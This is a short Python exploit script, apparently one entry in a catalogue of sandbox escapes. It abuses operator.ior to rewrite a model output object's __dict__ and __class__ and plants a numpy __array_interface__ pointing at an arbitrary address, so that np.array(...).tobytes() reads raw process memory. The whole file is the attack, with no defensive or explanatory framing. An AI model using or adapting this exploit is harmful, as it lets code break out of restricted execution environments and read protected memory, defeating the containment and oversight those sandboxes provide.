"""Class: memory. Source: own find. Escape: the same, with operator.ior as the caller."""

import operator
from collections import OrderedDict

import numpy as np


class Own(OrderedDict):
    pass


def attack(model, tokenizer, address):
    out = model(**tokenizer("the cat", return_tensors="pt"))
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    operator.ior(out, {"__dict__": {"__array_interface__": spec}})
    operator.ior(out, {"__class__": Own})
    return np.array(out).tobytes()
